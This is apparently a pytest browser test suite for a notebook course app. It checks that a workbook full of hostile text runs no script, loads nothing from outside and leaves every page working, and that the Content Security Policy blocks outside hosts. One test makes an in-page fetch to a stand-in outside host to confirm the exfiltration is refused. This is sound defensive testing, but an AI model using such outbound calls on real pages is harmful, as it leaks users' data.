"""Hostile texts in every field of a workbook: nothing runs, nothing is fetched, and every page stands; a second lock holds besides."""

from __future__ import annotations

import json
from typing import Any

import pytest

from kizuna.process import course
from tests.browser import serving
from tests.hostile import NAME, OUTSIDE, hostile_workbook

PAGES = [f"{section.file}.ipynb" for section in course().sections if section.open]
UNFOLD = "document.querySelectorAll('details').forEach((one) => (one.open = true))"


@pytest.fixture(scope="module")
def hostile_home(running_server: Any) -> Any:
    """The served folder of workbooks with the hostile one in it, open on every page."""
    running_server.empty_home()
    path = hostile_workbook(running_server.home / f"{NAME}.kizuna")
    pointer = {"path": str(path)}
    (running_server.home / "いま開いているノート.json").write_text(json.dumps(pointer), encoding="utf-8")
    return running_server


@pytest.mark.parametrize("name", PAGES)
def test_nothing_runs_and_the_page_stands(hostile_home: Any, laptop: Any, name: str) -> None:
    said: list[str] = []
    laptop.on("dialog", lambda dialog: said.append(dialog.message))
    laptop.on("console", lambda message: said.append(message.text) if "Content Security Policy" in message.text else None)
    serving.open_page(laptop, hostile_home, name)
    laptop.evaluate(UNFOLD)
    laptop.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    assert laptop.evaluate("document.documentElement.dataset.ran") is None
    assert not laptop.locator("iframe, img[src=x], link[href*=outside], .kz-form script").count()
    assert not laptop.locator(f"[src^='{OUTSIDE}'], [href^='{OUTSIDE}']").count()
    assert not laptop.get_by_text("ノートが開けません").count()
    assert not laptop.locator(".kizuna-trouble").count()
    assert said == [], "the page itself wants what its policy forbids"
    hostile_home.end_kernels()


def test_the_second_lock_holds_where_the_first_was_open(server: Any, laptop: Any, open_page: Any) -> None:
    """A script that did come in can fetch from and tell to nobody."""
    open_page(laptop, PAGES[0])
    blocked: list[str] = []
    laptop.on("console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None)
    tried = laptop.evaluate(
        """async (outside) => {
          const late = new Promise((done) => setTimeout(() => done("nothing was refused"), 5000));
          const failed = new Promise((done) => document.addEventListener("securitypolicyviolation", (one) => done(one.effectiveDirective), { once: true }));
          const told = await fetch(outside + "/?told=1").then(() => "told", () => "kept");
          return [told, await Promise.race([failed, late])];
        }""",
        OUTSIDE,
    )
    assert tried == ["kept", "connect-src"]
    assert any("outside.invalid" in line for line in blocked)


def test_the_policy_names_no_host_and_leaves_no_way_out_on_any_page(server: Any, laptop: Any) -> None:
    """What has no word of its own falls back on ``default-src``; forms, the base and frames around a page do not, so each is named."""
    for address in (
        server.url(PAGES[0]),
        f"{server.origin}/voila/render/{PAGES[0]}",
        f"{server.origin}/login",
        server.url("99_missing.ipynb"),
    ):
        laptop.context.clear_cookies()
        headers = laptop.goto(address).headers
        told = {name: set(sources) for name, *sources in (one.split() for one in headers["content-security-policy"].split(";"))}
        assert told["default-src"] == told["form-action"] == told["frame-ancestors"] == {"'self'"}, address
        assert told["object-src"] == told["base-uri"] == {"'none'"}, address
        assert set().union(*told.values()) <= {"'self'", "'none'", "'unsafe-inline'", "'unsafe-eval'", "data:", "blob:"}, address
        assert headers["referrer-policy"] == "same-origin", f"{address}: a form that does not say where it was sent from is refused"
